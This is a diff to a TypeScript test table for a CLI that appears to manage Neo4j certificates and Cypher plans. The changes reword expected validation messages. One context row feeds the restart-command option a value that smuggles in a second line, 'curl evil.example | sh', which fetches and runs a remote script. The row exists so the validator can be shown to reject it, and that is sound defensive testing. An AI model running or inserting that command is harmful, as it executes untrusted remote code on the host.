@@ -43,8 +43,8 @@ export const cliRows: CliRow[] = [
   ["letsencrypt restart command with a line break", ["certs", "letsencrypt", "--live", "DIR/empty", "--out", "DIR/le", "--restart-command", "systemctl restart neo4j\ncurl evil.example | sh"], {}, "--restart-command", "must be one line"],
   // cypher
   ["cypher no state", ["cypher", "plan"], {}, "--state", "missing"],
-  ["cypher state not JSON", ["cypher", "plan", "--state", "{nope"], {}, "--state", "not valid JSON"],
-  ["cypher state file missing", ["cypher", "plan", "--state", "DIR/none.json"], {}, "--state", "cannot read"],
+  ["cypher state not JSON", ["cypher", "plan", "--state", "{nope"], {}, "--state", "is not JSON"],
+  ["cypher state file missing", ["cypher", "plan", "--state", "DIR/none.json"], {}, "--state", "does not exist"],
   ["cypher state env unset", ["cypher", "plan", "--state-env", "NO_SUCH_STATE_VAR"], { NO_SUCH_STATE_VAR: undefined }, "--state-env", "not set"],
   ["cypher state and config", ["cypher", "plan", "--state", "{}", "--config", "x.yaml"], {}, "--config", "not both"],
   ["cypher literal password in state", ["cypher", "plan", "--state", state({ connection: { ...goodConnection, password: SECRETS.password } })], {}, "--state.connection.password", "{env: NAME}"],
@@ -60,7 +60,7 @@ export const cliRows: CliRow[] = [
   ["verify --dbid with credentials", ["verify", "--outputs", "DIR/outputs.json", "--dbid", `admin:${SECRETS.urlPassword}@abcd1234`], {}, "--dbid", "must not hold credentials"],
   ["verify --dns-server with credentials", ["verify", "--outputs", "DIR/outputs.json", "--dbid", "abcd1234", "--dns-server", `admin:${SECRETS.urlPassword}@10.0.0.2:53`], {}, "--dns-server", "must not hold credentials"],
   ["cypher bad timeout", ["cypher", "plan", "--state", state({ connection: goodConnection }), "--timeout", "soon"], {}, "--timeout", "duration"],
-  ["cypher config file missing", ["cypher", "plan", "--config", "DIR/none.yaml"], {}, "none.yaml", "cannot read the config file"],
+  ["cypher config file missing", ["cypher", "plan", "--config", "DIR/none.yaml"], {}, "--config", "does not exist; expected the app's config file"],
   ["cypher config with a literal password", ["cypher", "plan", "--config", "DIR/secret-config.yaml"], {}, "neo4jAccess.connection.password", "{env: NAME}"],
   ["cypher previous and previous-env", ["cypher", "plan", "--state", state({ connection: goodConnection }), "--previous", "{}", "--previous-env", "X"], {}, "--previous", "not both"],
 ];
